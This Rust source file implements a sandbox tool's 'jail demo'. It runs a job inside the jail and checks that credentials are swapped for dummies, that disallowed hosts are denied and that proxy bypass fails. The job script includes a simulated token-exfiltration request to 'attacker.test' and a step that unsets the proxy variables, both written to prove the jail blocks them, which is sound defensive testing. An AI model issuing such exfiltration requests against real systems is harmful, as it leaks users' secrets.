//! `jail demo`: what a jail does, seen from both sides in one screen. Nothing of it leaves this machine.

mod upstream;

use std::io;
use std::path::Path;
use std::process::{ExitCode, Output};

use sandbox::host_program::this_program;
use serde_json::Value;

use crate::console;
use crate::failure::Failure;
use upstream::Upstream;

/// The host that the demo's own upstream server plays.
const HOST: &str = "api.jail.test";
/// A host that the policy does not name.
const DENIED_HOST: &str = "attacker.test";

/// Runs one job against a server of its own, compares what both sides saw; exit code 0 only if all of it held.
pub(crate) fn demo() -> Result<ExitCode, Failure> {
    let directory = tempfile::Builder::new().prefix("jail-demo-").tempdir().map_err(|error| {
        Failure::no_jail(format!("cannot make a temporary directory: {error}; set TMPDIR"))
    })?;
    let token = upstream::random_token().map_err(Failure::no_jail)?;
    let upstream = Upstream::start(HOST).map_err(Failure::no_jail)?;
    let ca = directory.path().join("upstream-ca.pem");
    std::fs::write(&ca, upstream.ca_pem())
        .map_err(|error| Failure::no_jail(format!("cannot write {}: {error}", ca.display())))?;

    let client = Client::find()?;
    let output = run_job(&client, &token, &upstream, &ca, directory.path())
        .map_err(|error| Failure::no_jail(format!("cannot start the demo's job: {error}")))?;
    let seen = Seen::of(&output);
    let checks = checks(&seen, &token, &upstream.authorizations());
    let held = checks.iter().all(|check| check.held);
    console::print(&screen(&client, &checks, held))?;
    if !held {
        console::print(&format!(
            "\nThe job said:\n{}{}",
            String::from_utf8_lossy(&output.stdout).replace(&token, "<the real token>"),
            String::from_utf8_lossy(&output.stderr).replace(&token, "<the real token>")
        ))?;
    }
    Ok(ExitCode::from(u8::from(!held)))
}

/// The program that makes the requests inside.
struct Client {
    /// What `--host` gets.
    program: String,
    /// How a URL is asked for in a shell, with and without the token.
    with_token: String,
    plain: String,
}

impl Client {
    /// curl, or this program itself.
    fn find() -> Result<Client, Failure> {
        let has_curl = std::env::var_os("PATH").is_some_and(|path| {
            std::env::split_paths(&path).any(|directory| directory.join("curl").is_file())
        });
        if has_curl {
            let curl = "curl -sS --max-time 10";
            return Ok(Client {
                program: "curl".to_owned(),
                with_token: format!("{curl} -H \"authorization: Bearer $DEMO_TOKEN\""),
                plain: curl.to_owned(),
            });
        }
        let myself = std::env::current_exe()
            .map_err(|error| Failure::no_jail(format!("cannot tell where this program is: {error}")))?;
        let quoted = format!("'{}'", myself.display().to_string().replace('\'', r"'\''"));
        Ok(Client {
            program: myself.display().to_string(),
            with_token: format!(
                "fetch() {{ {quoted} __fetch \"$1\" \"authorization: Bearer $DEMO_TOKEN\"; }}; fetch"
            ),
            plain: format!("{quoted} __fetch"),
        })
    }

    /// What the job does. The last request goes to an address and port where nothing listens in its network.
    fn script(&self) -> String {
        format!(
            "echo \"dummy=$DEMO_TOKEN\"\n\
             echo \"echoed=$({} https://{HOST}/echo)\"\n\
             echo \"denied=$({} https://{DENIED_HOST}/?stolen=$DEMO_TOKEN)\"\n\
             unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY\n\
             echo \"direct=$({} http://192.0.2.7:2222/ 2>&1)\"\n",
            self.with_token, self.plain, self.plain
        )
    }
}

fn run_job(client: &Client, token: &str, upstream: &Upstream, ca: &Path, state: &Path) -> io::Result<Output> {
    let connect_to = format!("{HOST}:443:{}", upstream.address());
    this_program()
        .envs(std::env::vars_os())
        .current_dir(std::env::current_dir()?)
        .args(["run", "--workspace", "none", "--json", "--host", "sh", "--host", &client.program])
        .args(["--allow", HOST, "--credential", &format!("DEMO_TOKEN=env:DEMO_TOKEN@{HOST}")])
        .args(["--connect-to", &connect_to, "--upstream-ca"])
        .arg(ca)
        .args(["--", "sh", "-c", &client.script()])
        .env("DEMO_TOKEN", token)
        .env("XDG_STATE_HOME", state)
        .output()
}

/// What the job printed, by the words before `=`.
#[derive(Default)]
struct Seen {
    dummy: String,
    echoed: String,
    denied: String,
    direct: String,
    /// The summary of `--json`.
    summary: Value,
}

impl Seen {
    fn of(output: &Output) -> Seen {
        let mut seen = Seen::default();
        for line in String::from_utf8_lossy(&output.stdout).lines() {
            match line.split_once('=') {
                Some(("dummy", value)) => seen.dummy = value.to_owned(),
                Some(("echoed", value)) => seen.echoed = value.to_owned(),
                Some(("denied", value)) => seen.denied = value.to_owned(),
                Some(("direct", value)) => seen.direct = value.to_owned(),
                _ => {}
            }
        }
        if let Some(last) = String::from_utf8_lossy(&output.stderr).lines().last() {
            seen.summary = serde_json::from_str(last).unwrap_or_default();
        }
        seen
    }
}

/// One thing that must be so.
struct Check {
    title: &'static str,
    shown: String,
    held: bool,
}

fn checks(seen: &Seen, token: &str, authorizations: &[String]) -> Vec<Check> {
    let denial: Value = serde_json::from_str(&seen.denied).unwrap_or_default();
    let echo: Value = serde_json::from_str(&seen.echoed).unwrap_or_default();
    let text = |value: &Value, key: &str| value[key].as_str().unwrap_or("nothing").to_owned();
    let bearer = |token: &str| format!("Bearer {token}");
    let reached = authorizations.first().cloned().unwrap_or_else(|| "nothing".to_owned());
    let echoed = text(&echo, "authorization");
    let refused = seen.direct.contains("refused")
        || seen.direct.contains("Couldn't connect")
        || seen.direct.contains("Failed to connect");
    vec![
        Check {
            title: "the job holds a dummy",
            shown: short(&seen.dummy),
            held: !seen.dummy.is_empty() && seen.dummy != token,
        },
        Check {
            title: "the real token reached the upstream",
            shown: short(&reached),
            held: authorizations == [bearer(token)],
        },
        Check {
            title: "the upstream echoed it, the job read",
            shown: short(&echoed),
            held: !seen.dummy.is_empty() && echoed == bearer(&seen.dummy),
        },
        Check {
            title: "a host outside the policy",
            shown: format!("{}, {}", text(&denial, "error"), text(&denial, "reason")),
            held: denial["reason"] == "host-not-allowed"
                && seen.summary["denied"][format!("{DENIED_HOST}:443")]["host-not-allowed"] == 1,
        },
        Check { title: "a connection past the proxy", shown: seen.direct.clone(), held: refused },
    ]
}

/// The beginning and the end of a token, enough to compare two of them by eye.
fn short(text: &str) -> String {
    let characters: Vec<char> = text.chars().collect();
    match characters.len() {
        0 => "nothing".to_owned(),
        length if length > 44 => {
            let (head, tail) = (&characters[..28], &characters[length - 11..]);
            format!("{}…{}", head.iter().collect::<String>(), tail.iter().collect::<String>())
        }
        _ => text.to_owned(),
    }
}

fn screen(client: &Client, checks: &[Check], held: bool) -> String {
    let program = Path::new(&client.program)
        .file_name()
        .map(|name| name.to_string_lossy().into_owned())
        .unwrap_or_default();
    let mut text = format!(
        "A job ran {program} in a jail:\n  jail run --host sh --host {program} --allow {HOST} --credential DEMO_TOKEN=env:DEMO_TOKEN@{HOST} -- sh -c …\n\n"
    );
    for check in checks {
        let mark = if check.held { "ok  " } else { "FAIL" };
        text.push_str(&format!("{mark}  {:38}{}\n", check.title, check.shown));
    }
    text.push_str(if held { "\nAll of it was observed.\n" } else { "\nNot all of it was observed.\n" });
    text
}
